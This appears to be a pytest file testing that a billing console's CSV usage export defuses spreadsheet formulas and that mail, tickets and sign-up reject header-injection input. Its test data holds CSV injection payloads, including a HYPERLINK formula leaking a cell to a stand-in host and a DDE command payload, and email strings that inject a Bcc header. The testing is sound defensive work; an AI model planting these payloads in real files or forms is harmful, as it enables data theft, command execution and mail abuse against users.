"""What travels to other programs: cells that would be formulas, headers that would be more."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from tests.support.browser import Browser
from tests.support.fake_clock import FakeClock
from whalefall.accounts.tickets import NewTicket, TicketKind, open_ticket
from whalefall.base.db import Database
from whalefall.base.errors import InvalidRequestError
from whalefall.base.mail import Letter, list_mails, queue_mail
from whalefall.base.money import Currency
from whalefall.billing.usage import UsageRow
from whalefall.console.usage_export import amount_lines, csv_bytes

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "safe;=1+1",
    'safe",=1+1',
    "safe\t=1+1",
    "safe\n=1+1",
    "safe; @SUM(A1)",
    "  =1+1",
)
"""The ones with separators inside open a cell of their own where a spreadsheet splits at those."""


def row_named(name: str) -> UsageRow:
    return UsageRow(
        date(2026, 1, 15), "user_1", "key_1", name, "sk-1bb****7cee7", "deepseek-chat", "p",
        Currency.CNY, 1, 2, 3, 4, 5, 6, 7, 8, 9,
    )  # fmt: skip


@pytest.mark.parametrize("name", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_however_it_is_split(name: str, separator: str) -> None:
    content = csv_bytes(amount_lines([row_named(name)])).decode("utf-8-sig")
    for line in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
        for cell in line:
            bare = cell.strip(' "')
            assert not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), (name, line)


def test_harmless_names_are_left_as_they_are() -> None:
    for name in ("laptop", "a-b", "1=1", "C++", "user@host", "生产环境", "x; y"):
        content = csv_bytes(amount_lines([row_named(name)])).decode("utf-8-sig")
        (_, first, *_) = list(csv.reader(io.StringIO(content, newline="")))
        assert first[3] == name


async def test_the_page_gives_the_same_harmless_file(browser: Browser) -> None:
    browser.make_user("ann@example.org")
    await browser.sign_in("ann@example.org")
    response = await browser.client.get("/usage/export?month=2026-01")
    assert response.headers["content-type"] == "application/zip"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "attachment" in response.headers["content-disposition"]


@pytest.mark.parametrize("evil", ["\nBcc: eve@evil.example", "\r\nX: y", "\x00", "\x0b", "\u2028"])
def test_a_letter_has_the_headers_we_give_it(
    database: Database, clock: FakeClock, evil: str
) -> None:
    for letter in (
        Letter(f"ann@example.org{evil}", "hello", "text"),
        Letter("ann@example.org", f"hello{evil}", "text"),
    ):
        with pytest.raises(InvalidRequestError):
            database.run(queue_mail, letter, clock.now())
    new = NewTicket(None, "ann@example.org", TicketKind.OTHER, f"Help{evil}me", "text")
    with pytest.raises(InvalidRequestError):
        database.run(open_ticket, new, clock.now())


async def test_no_address_typed_at_the_door_becomes_a_header(browser: Browser) -> None:
    await browser.open("/sign_up")
    for email in (
        "ann@example.org\nBcc: eve@evil.example",
        "ann@example.org\r\nBcc:eve@evil.example",
        "ann@example.org,eve@evil.example",
        "ann@example.org;eve@evil.example",
        '"Eve" <eve@evil.example>',
        "ann@example.org eve@evil.example",
    ):
        await browser.submit("/sign_up/code", email=email)
        assert browser.status == 400, email
    assert browser.database.run(list_mails) == []
